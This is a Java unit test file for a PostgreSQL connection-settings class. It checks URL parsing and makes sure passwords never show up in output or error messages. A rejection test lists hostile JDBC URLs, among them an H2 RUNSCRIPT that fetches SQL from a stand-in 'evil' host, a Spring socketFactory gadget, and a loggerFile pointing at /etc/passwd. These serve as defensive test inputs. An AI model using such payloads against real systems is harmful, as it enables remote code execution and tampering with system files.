package io.clickml.artifacts.postgresql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.clickml.sdk.error.ClickMLException;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SettingsTest {
    private static Settings of(String url) {
        return Settings.of(Map.of(Settings.URL, url, Settings.USER, "ann", Settings.PASSWORD, "secret"));
    }

    @Test
    void takesAUrlApart() {
        Settings settings = of("jdbc:postgresql://db.example:5433/files?sslmode=require&connectTimeout=2");
        assertThat(settings.host()).isEqualTo("db.example");
        assertThat(settings.port()).isEqualTo(5433);
        assertThat(settings.database()).isEqualTo("files");
        assertThat(settings.options())
                .containsEntry("sslmode", "require")
                .containsEntry("connectTimeout", "2")
                .containsEntry("socketTimeout", "60");
        assertThat(settings.dataSource().getUrl())
                .startsWith("jdbc:postgresql://db.example:5433/files?")
                .contains("sslmode=require");
        assertThat(settings).asString().doesNotContain("secret").contains("db.example:5433/files");
        assertThat(of("postgresql://db/files").port()).isEqualTo(5432);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:postgresql://db/files?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://db/files?loggerFile=/etc/passwd",
                "jdbc:postgresql://db/files?sslmode=require&sslmode",
                "jdbc:postgresql://ann:secret@db/files",
                "jdbc:postgresql://db1,db2/files",
                "jdbc:postgresql://db/",
                "jdbc:postgresql://db/a%2fb",
                "jdbc:postgresql:files",
                "nonsense secret"
            })
    void refusesWhatItDoesNotKnowAndRepeatsNoSecret(String url) {
        assertThatThrownBy(() -> of(url))
                .isInstanceOf(ClickMLException.class)
                .hasMessageContaining(Settings.URL)
                .hasMessageNotContaining("secret");
    }

    @Test
    void takesTheEnvironmentBeforeTheFramework() {
        assertThat(Settings.given(Map.of(Settings.URL, "a"), Map.of(Settings.URL, "b", Settings.USER, "c")::get))
                .isEqualTo(Map.of(Settings.URL, "a", Settings.USER, "c"));
    }

    @Test
    void saysWhatIsNotSet() {
        assertThatThrownBy(() -> Settings.of(Map.of())).hasMessageContaining("Set " + Settings.URL);
        assertThatThrownBy(() -> Settings.of(Map.of(Settings.URL, "jdbc:postgresql://db/files")))
                .hasMessageContaining("Set " + Settings.USER);
    }
}
